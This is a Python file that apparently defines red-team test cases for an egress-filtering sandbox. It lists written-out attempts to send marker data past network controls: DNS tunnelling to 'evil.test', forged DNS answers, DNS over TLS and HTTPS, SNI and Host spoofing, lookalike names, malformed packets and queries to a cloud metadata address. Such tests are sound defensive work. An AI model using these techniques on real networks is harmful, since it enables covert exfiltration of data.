"""Names: questions as a way out, answers that are forged, names that are written to be read in two ways."""

from hatchway.redteam.attacks.attack import BLOCKED, INDEX, SOURCE, Attack, table

_PARTLY = (INDEX, SOURCE)
_TYPES = {
    "a": 1,
    "aaaa": 28,
    "txt": 16,
    "null": 10,
    "any": 255,
    "mx": 15,
    "ns": 2,
    "srv": 33,
    "cname": 5,
    "naptr": 35,
    "caa": 257,
    "private-use": 65400,
}
_HEADERS = "b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'"

ATTACKS: tuple[Attack, ...] = (
    *table("D01", "An allowed name at an address of the attacker's, as a hosts file says", {
        "tls": f"tls('203.0.113.66', b'GET /simple/' + B + {_HEADERS}, 'index.test')",
        "clear": "tcp('203.0.113.66', 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n')",
        "evil-site": f"tls(facts['zone']['evil.test'], b'GET /simple/' + B + {_HEADERS}, 'index.test')",
        "true-address": f"tls(facts['zone']['index.test'], b'GET /upload/' + B + {_HEADERS}, 'index.test')",
        "other-port": f"tls('203.0.113.66', b'GET /simple/' + B + {_HEADERS}, 'index.test', port=8443)",
    }),
    *table("D02", "Answers that are forged on the wire", {
        "from-the-gateway": "q = query(labels_of('index.test')); ask(q); a = q[:2] + b'\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0' + q[12:] + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x1e\\0\\4' + socket.inet_aton('203.0.113.66'); "
                            "frame(ip4('10.200.0.2', 17, udp4('10.200.0.2', 53, a, src='10.200.0.1'), src='10.200.0.1')); "
                            f"tls('203.0.113.66', b'GET /simple/' + B + {_HEADERS}, 'index.test')",
        "from-a-resolver": "q = query(labels_of('index.test')); ask(q, facts['resolver']); a = q[:2] + b'\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0' + q[12:] + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x1e\\0\\4' + socket.inet_aton('203.0.113.66'); "
                           "frame(ip4('10.200.0.2', 17, struct.pack('>HHHH', 53, 40000, 8 + len(a), 0) + a, src=facts['resolver'])); "
                           f"tls('203.0.113.66', b'GET /simple/' + B + {_HEADERS}, 'index.test')",
        "to-the-gateway": "q = query(labels_of('index.test'), flags=0x8180, count=1, extra=b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x1e\\0\\4' + socket.inet_aton('203.0.113.66')); ask(q); "
                          f"tls('203.0.113.66', b'GET /simple/' + B + {_HEADERS}, 'index.test')",
        "own-resolver": f"tls(facts['zone']['other.test'], b'GET /simple/' + B + {_HEADERS}, 'index.test'); tls('203.0.113.67', b'GET /simple/' + B + {_HEADERS}, 'index.test')",
    }),
    *table("D03", "Questions that carry data", {
        "label": "ask(query(labels_of(M + '.evil.test')))",
        "deep": "ask(query(labels_of('a.b.c.' + M + '.d.evil.test')))",
        "long": "ask(query(labels_of(M + 'a' * 40 + '.' + 'b' * 60 + '.' + 'c' * 60 + '.evil.test')))",
        "under-an-allowed-name": "ask(query(labels_of(M + '.index.test')))",
        "upper-case": "ask(query(labels_of(M.upper() + '.EVIL.TEST')))",
        "over-tcp": "ask(query(labels_of(M + '.evil.test')), over_tcp=True)",
        "many": "[ask(query(labels_of(f'{number}.{M}.evil.test'))) for number in range(5)]",
    }),
    *table("D05", "Name servers of the attacker's choice", {
        "resolver": "ask(query(labels_of(M + '.evil.test')), facts['resolver'])",
        "public": "ask(query(labels_of(M + '.evil.test')), '203.0.113.53')",
        "public-tcp": "ask(query(labels_of(M + '.evil.test')), '203.0.113.53', over_tcp=True)",
        "metadata": "ask(query(labels_of(M + '.evil.test')), '169.254.169.254')",
        "no-dns-at-all": "udp('203.0.113.53', 53, B * 4)",
        "octets-over-tcp": "tcp('203.0.113.53', 53, B * 4)",
    }),
    *table("D06", "Names over TLS", {
        "tls": "tls('203.0.113.53', b'\\0\\x20' + query(labels_of(M + '.evil.test')), 'dns.test', port=853)",
        "octets": "tcp('203.0.113.53', 853, B)",
        "quic": "udp('203.0.113.53', 853, B)",
        "at-an-allowed-site": "site('index.test', b'\\0\\x20' + query(labels_of(M + '.evil.test')), port=853)",
    }),
    *table("D07", "Names over HTTPS", {
        "post": "tls('203.0.113.53', b'POST /dns-query HTTP/1.1\\r\\nHost: dns.test\\r\\nContent-Length: 15\\r\\n\\r\\n' + B, 'dns.test')",
        "get": "tls('203.0.113.53', b'GET /resolve?name=' + B + b' HTTP/1.1\\r\\nHost: dns.test\\r\\n\\r\\n', 'dns.test')",
    }),
    *table("D08", "Names over HTTPS at an allowed site", {
        "path": "site('index.test', b'GET /dns-query?dns=' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "post": "site('index.test', b'POST /dns-query HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Type: application/dns-message\\r\\nContent-Length: 15\\r\\n\\r\\n' + B)",
    }),
    *table("D11", "Service bindings", {
        "https": "ask(query(labels_of(M + '.evil.test'), 65))",
        "svcb": "ask(query(labels_of('_8443._https.' + M + '.evil.test'), 64))",
        "of-an-allowed-name": "ask(query(labels_of('index.test'), 65)); site('index.test', b'GET /' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', port=8443)",
    }),
    *table("D12", "Names without a dot", {"one-label": "ask(query(labels_of(M)))", "metadata": "ask(query(labels_of(M + '.internal')))"}),
    *table("D13", "Octets that names do not have", {
        "nul": "ask(query(wire_name(b'index', B + b'\\0', b'test')))",
        "dot-in-label": "ask(query(wire_name(b'index.test.' + B, b'evil', b'test')))",
        "space": "ask(query(wire_name(B + b' x', b'evil', b'test')))",
        "high": "ask(query(wire_name(B + b'\\xff', b'evil', b'test')))",
        "underscore": "ask(query(wire_name(b'_' + B, b'index', b'test')))",
        "backslash": "ask(query(wire_name(B + b'\\\\046', b'index', b'test')))",
    }),
    *table("D15", "Names that look alike", {
        "utf-8": "ask(query(labels_of(M + '.ındex.test')))",
        "zero-width": "ask(query(labels_of(M + '.ind\\u200bex.test')))",
        "full-width": "ask(query(labels_of(M + '.ｉｎｄｅｘ.test')))",
        "punycode": "ask(query(labels_of(M + '.xn--ndex-nza.test')))",
    }),
    *table("D17", "Other types of questions", {name: f"ask(query(labels_of(M + '.evil.test'), {number}))" for name, number in _TYPES.items()}),
    *table("D18", "Questions backwards", {
        "ipv4": "ask(query(labels_of(M + '.113.0.203.in-addr.arpa'), 12))",
        "ipv6": "ask(query(labels_of(M + '.8.b.d.0.1.0.0.2.ip6.arpa'), 12))",
    }),
    *table("D20", "Packets that are no plain question", {
        "two-questions": "ask(query(labels_of('index.test'), count=2, extra=labels_of(M + '.evil.test') + b'\\0\\1\\0\\1'))",
        "update": "ask(query(labels_of(M + '.evil.test'), 6, flags=0x2800))",
        "transfer": "ask(query(labels_of(M + '.evil.test'), 252), over_tcp=True)",
        "notify": "ask(query(labels_of(M + '.evil.test'), 6, flags=0x2000))",
        "response": "ask(query(labels_of(M + '.evil.test'), flags=0x8180))",
        "junk-behind": "ask(query(labels_of('index.test'), extra=B * 4))",
        "chaos": "ask(query(labels_of(M + '.evil.test'), cls=3))",
        "no-question": "ask(query(labels_of(M + '.evil.test'), count=0))",
        "option": "ask(query(labels_of('index.test'), extra=b'')[:10] + b'\\0\\1' + labels_of('index.test') + b'\\0\\1\\0\\1\\0\\0\\x29\\4\\xd0\\0\\0\\0\\0\\0\\x13\\xfd\\xe9\\0\\x0f' + B)",
    }),
    *table("D22", "An allowed name at another allowed name's address", {
        "api-at-index": "site('index.test', b'POST /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 0\\r\\n\\r\\n', sni='api.test')",
        "index-at-api": "site('api.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', sni='index.test')",
        "clear-at-index": "site('clear.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', sni='index.test')",
        "clear-host": "tcp(addr('clear.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("D24", "Pointers in names", {
        "loop": "ask(query(wire_name(B)[:-1] + b'\\xc0\\x0c'))",
        "forward": "ask(query(wire_name(B)[:-1] + b'\\xc0\\x30', extra=labels_of('evil.test')))",
        "label-of-64": "ask(query(b'\\x40' + B.ljust(64, b'a') + b'\\0'))",
    }),
    *table("D21", "Addresses that stand for nothing", {
        name: f"tls('{to}', b'GET /simple/' + B + {_HEADERS}, 'index.test')"
        for name, to in {"first": "198.18.0.1", "last": "198.19.255.254", "middle": "198.18.77.77"}.items()
    }, (BLOCKED, SOURCE)),
)  # fmt: skip
